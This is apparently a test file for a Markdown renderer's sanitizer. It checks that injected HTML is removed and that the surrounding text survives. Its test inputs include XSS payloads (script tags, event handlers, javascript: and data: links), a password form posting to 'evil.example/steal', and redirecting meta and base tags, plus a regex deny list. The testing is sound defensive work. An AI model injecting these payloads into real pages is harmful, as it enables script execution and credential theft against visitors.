/**
 * Hostile raw HTML in content: nothing that can run code, load another page or restyle the
 * site reaches the output, and the text around it (and inside it, where it is text) stays.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { createMarkdownRenderer, type MarkdownRenderer } from '../../src/lib/render/markdown-renderer';

let render: MarkdownRenderer;
let reported: string[];
const renderHtml = (markdown: string) => {
  reported = [];
  return render(markdown, { resolveLink: () => undefined, reportUnsafe: (m) => reported.push(m) });
};

beforeAll(async () => {
  render = await createMarkdownRenderer();
});

/** Tags and attribute patterns that must never appear in rendered content. */
const FORBIDDEN = [
  /<script/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<style/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /<svg/i,
  /<template/i,
  /\son[a-z]+=/i,
  /javascript:/i,
  /vbscript:/i,
  /(?:src|href)="data:/i,
  /\sstyle=/i,
];

function expectSafe(html: string): void {
  for (const pattern of FORBIDDEN) expect(html, `matches ${pattern}`).not.toMatch(pattern);
}

const cases: Array<{ name: string; input: string; keeps: string[] }> = [
  { name: 'a script block', input: 'Before\n\n<script>alert("owned")</script>\n\nAfter', keeps: ['Before', 'After'] },
  { name: 'an inline script', input: 'Text <script src="https://evil.example/x.js"></script> more', keeps: ['Text', 'more'] },
  { name: 'an upper-case SCRIPT', input: '<SCRIPT>alert(1)</SCRIPT>\n\nok', keeps: ['ok'] },
  { name: 'a script in an svg', input: '<svg><script>alert(1)</script><text>label</text></svg>', keeps: ['label'] },
  {
    name: 'event handlers',
    input: '<p onclick="alert(1)" onmouseover="alert(2)">Click</p>\n\n<img src="x.png" onerror="alert(3)" alt="pic">',
    keeps: ['Click', 'alt="pic"'],
  },
  { name: 'a javascript: link in markdown', input: '[click](javascript:alert(1))', keeps: ['click'] },
  {
    name: 'a javascript: link in HTML, mixed case and entities',
    input: '<a href="JaVaScRiPt:alert(1)">a</a> <a href="java&#x09;script:alert(2)">b</a> <a href=" javascript:alert(3)">c</a>',
    keeps: ['>a<', '>b<', '>c<'],
  },
  {
    name: 'a data: image and link',
    input: '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="d"> <a href="data:text/html,<script>alert(1)</script>">d</a>',
    keeps: ['alt="d"', '>d<'],
  },
  { name: 'a vbscript: link', input: '<a href="vbscript:msgbox(1)">vb</a>', keeps: ['vb'] },
  {
    name: 'an iframe with fallback text',
    input: '<iframe src="https://evil.example">Your browser has no frames</iframe>',
    keeps: ['Your browser has no frames'],
  },
  {
    name: 'an object and an embed',
    input: '<object data="x.swf">Object fallback</object>\n\n<embed src="x.swf">',
    keeps: ['Object fallback'],
  },
  {
    name: 'a form with fields',
    input:
      '<form action="https://evil.example/steal" method="post"><label>Password</label><input type="password" name="p"><button>Send</button></form>',
    keeps: ['Password', 'Send'],
  },
  {
    name: 'a style element and attribute',
    input: '<style>body { display: none }</style>\n\n<p style="position:fixed;inset:0">Overlay</p>',
    keeps: ['Overlay'],
  },
  {
    name: 'meta refresh and base',
    input: '<meta http-equiv="refresh" content="0;url=https://evil.example">\n<base href="https://evil.example/">\n\nStill here',
    keeps: ['Still here'],
  },
  { name: 'a link to a stylesheet', input: '<link rel="stylesheet" href="https://evil.example/x.css">\n\nText', keeps: ['Text'] },
  { name: 'a template', input: '<template><img src=x onerror=alert(1)></template>\n\nok', keeps: ['ok'] },
  { name: 'a noscript', input: '<noscript>Enable JavaScript</noscript>', keeps: ['Enable JavaScript'] },
];

describe('sanitizing raw HTML in content', () => {
  for (const { name, input, keeps } of cases) {
    it(`removes ${name} and keeps the text`, async () => {
      const html = await renderHtml(input);
      expectSafe(html);
      for (const text of keeps) expect(html).toContain(text);
    });
  }

  it('removes script and style content rather than showing code as text', async () => {
    const html = await renderHtml('<script>stealCookies()</script>\n\n<style>.x { color: red }</style>\n\nvisible');
    expect(html).not.toContain('stealCookies');
    expect(html).not.toContain('color: red');
    expect(html).toContain('visible');
  });

  it('reports each removal so the build can warn about it', async () => {
    await renderHtml('<script>x()</script>\n\n<p onclick="y()">p</p>\n\n[l](javascript:z())\n\n<iframe src="https://e.example"></iframe>');
    expect(reported).toEqual([
      expect.stringContaining('<script>'),
      expect.stringContaining('onclick'),
      expect.stringContaining('javascript:'),
      expect.stringContaining('<iframe>'),
    ]);
  });

  it('reports nothing for ordinary content', async () => {
    await renderHtml(
      'Some **bold** and [a link](https://kubernetes.io) and <kbd>Ctrl</kbd>\n\n```bash\n<script>in code is text</script>\n```',
    );
    expect(reported).toEqual([]);
  });

  it('shows a script inside a code block as code', async () => {
    const html = await renderHtml('```html\n<script>alert(1)</script>\n```');
    expect(html).not.toMatch(/<script/);
    expect(html).toContain('&#x3C;');
    expect(html).toContain('alert');
  });

  it("keeps details, summary, kbd and an author's open attribute on details", async () => {
    const html = await renderHtml('<details open><summary>Hint <kbd>Ctrl</kbd>+<kbd>C</kbd></summary>\n\nInside\n\n</details>');
    expect(html).toContain('<details open>');
    expect(html).toContain('<summary>Hint <kbd>Ctrl</kbd>+<kbd>C</kbd></summary>');
    expect(html).toContain('Inside');
  });

  it('keeps open only on details', async () => {
    const html = await renderHtml('<p open>para</p><dialog open>dlg</dialog>');
    expect(html).not.toMatch(/<p open/);
    expect(html).not.toContain('<dialog');
    expect(html).toContain('dlg');
  });

  it("prefixes author ids so content cannot shadow the page's own elements", async () => {
    const html = await renderHtml('<a id="main" name="theme">x</a>');
    expect(html).toContain('id="user-content-main"');
    expect(html).not.toContain('id="main"');
  });

  it('keeps http(s) and mailto links and images', async () => {
    const html = await renderHtml('[k8s](https://kubernetes.io) [mail](mailto:a@example.org) ![pic](https://example.org/p.png)');
    expect(html).toContain('href="https://kubernetes.io"');
    expect(html).toContain('href="mailto:a@example.org"');
    expect(html).toContain('src="https://example.org/p.png"');
  });
});

describe('external links', () => {
  it('get rel="noopener noreferrer"', async () => {
    const html = await renderHtml('[k8s](https://kubernetes.io/docs/) and <a href="http://example.org">raw</a>');
    expect(html).toContain('<a href="https://kubernetes.io/docs/" rel="noopener noreferrer">');
    expect(html).toContain('<a href="http://example.org" rel="noopener noreferrer">');
  });

  it('leave in-site links alone', async () => {
    const html = await render('[RBAC](b.rbac.md#roles) [here](#top)', {
      resolveLink: (h) => (h.startsWith('b.') ? '/rbac/#roles' : undefined),
    });
    expect(html).toContain('<a href="/rbac/#roles">');
    expect(html).toContain('<a href="#top">');
  });
});
